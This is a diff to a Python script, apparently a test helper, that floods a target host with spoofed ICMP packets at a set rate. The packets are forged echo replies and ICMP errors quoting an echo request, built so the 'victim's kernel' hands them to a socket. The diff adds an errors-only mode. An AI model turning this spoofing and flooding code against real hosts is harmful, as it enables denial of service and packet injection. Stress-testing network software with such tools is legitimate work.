@@ -1,7 +1,7 @@
-"""Floods a host with ICMP until its standard input ends: `flooder.py FROM TO IDENTIFIER PACKETS_A_SECOND`.
+"""Floods a host with ICMP until its standard input ends: `flooder.py FROM TO IDENTIFIER PACKETS_A_SECOND [errors]`.
 
-One packet in four is a long echo reply with the identifier and a sequence number that was never sent; the others are ICMP
-errors that quote an echo request with it, so that the victim's kernel hands them to the socket. Writes `ready`, and at the
+One packet in four is a long echo reply with the identifier and a sequence number that was never sent, unless only errors are
+asked for; the others are ICMP errors that quote an echo request with it, so that the victim's kernel hands them to the socket. Writes `ready`, and at the
 end how many packets it sent in how many seconds.
 """
 import ctypes
@@ -17,6 +17,7 @@ BATCH = 64
 UNSENT = 40000
 
 source, target, identifier, rate = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
+with_replies = sys.argv[5:] != ["errors"]
 source_bytes, target_bytes = socket.inet_aton(source), socket.inet_aton(target)
 libc = ctypes.CDLL(None, use_errno=True)
 
@@ -54,7 +55,7 @@ def error(sequence):
     return with_checksum(struct.pack("!BBHI", 3, 1, 0, 0) + quoted)
 
 
-packets = [reply(UNSENT + n) if n % 4 == 0 else error(1 + n) for n in range(BATCH)]
+packets = [reply(UNSENT + n) if with_replies and n % 4 == 0 else error(1 + n) for n in range(BATCH)]
 buffers = [ctypes.create_string_buffer(packet, len(packet)) for packet in packets]
 vectors = [iovec(ctypes.cast(buffer, ctypes.c_void_p), len(buffer)) for buffer in buffers]
 messages = (mmsghdr * BATCH)()
